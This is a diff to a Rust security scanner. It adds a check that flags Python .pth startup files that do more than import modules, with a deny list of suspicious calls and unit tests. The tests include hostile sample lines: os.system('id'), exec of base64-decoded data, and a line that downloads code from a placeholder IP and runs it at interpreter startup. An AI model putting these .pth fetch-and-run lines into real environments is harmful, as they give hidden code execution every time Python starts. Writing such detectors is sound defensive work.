@@ -179,6 +179,62 @@ pub(crate) fn acts(text: &[u8]) -> bool {
         })
 }
 
+/// What a line of a path configuration file has no reason to do, in lower case.
+const BEYOND_IMPORTS: &[&str] = &[
+    "os.system(",
+    "os.popen(",
+    "os.exec",
+    "os.spawn",
+    "os.dup2(",
+    "subprocess",
+    "pty.",
+    "socket",
+    "urlopen(",
+    "urlretrieve(",
+    "requests.",
+    "http.client",
+    "b64decode(",
+    "fromhex(",
+    "marshal",
+    "pickle",
+    "zlib",
+    "cdll",
+    "windll",
+    "ctypes.",
+    "runpy.",
+    "eval(",
+];
+
+/// Whether a `.pth` file is one of those by which Python finds directories when it starts (of which it runs the lines
+/// that begin with `import`), and if so, whether it does more than import.
+///
+/// Packages write such files for their import hooks, so that `__import__` and the environment say nothing there.
+pub(crate) fn path_configuration(text: &[u8]) -> Option<bool> {
+    let near = text.get(..LONGEST).unwrap_or(text);
+    let text = std::str::from_utf8(near)
+        .ok()?
+        .trim_start_matches('\u{feff}');
+    let lines = text.lines().map(str::trim_end);
+    let of_form = |line: &str| {
+        line.is_empty()
+            || line.starts_with('#')
+            || line.starts_with("import ")
+            || line.starts_with("import\t")
+            || !line.contains(['(', '=', ';'])
+    };
+    if !lines.clone().all(of_form) || !lines.clone().any(|line| line.starts_with("import")) {
+        return None;
+    }
+    let text = text.to_ascii_lowercase();
+    Some(
+        ALONE
+            .iter()
+            .chain(BEYOND_IMPORTS)
+            .any(|word| text.contains(word))
+            || fetches_and_runs(&text),
+    )
+}
+
 /// Words with which a program may begin, in lower case.
 const BEGINNINGS: &[&str] = &[
     "#!",
@@ -299,7 +355,36 @@ fn is_acting_python(text: &str) -> bool {
 
 #[cfg(test)]
 mod tests {
-    use super::acts;
+    use super::{acts, path_configuration};
+
+    #[test]
+    fn path_configuration_files_may_import() {
+        for (text, acts) in [
+            (
+                "import os; var = 'SETUPTOOLS_USE'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_hack').add_shim(); ",
+                false,
+            ),
+            (
+                "import __editable___x_finder; __editable___x_finder.install()\n",
+                false,
+            ),
+            (
+                "# where it lies\n/srv/project/src\nimport os, sys;exec('if os.environ.get(\"COV\"): import cov')\n",
+                false,
+            ),
+            ("import os; os.system(\"id\")\n", true),
+            ("import base64;exec(base64.b64decode('aQ=='))\n", true),
+            (
+                "/srv/a\nimport urllib.request as u; exec(u.urlopen('http://198.51.100.7').read())\n",
+                true,
+            ),
+        ] {
+            assert_eq!(path_configuration(text.as_bytes()), Some(acts), "{text}");
+        }
+        for text in ["import os\nos.system('id')\n", "x = 1\n", "/srv/a\n", ""] {
+            assert_eq!(path_configuration(text.as_bytes()), None, "{text}");
+        }
+    }
 
     #[test]
     fn programs_are_told_from_prose() {
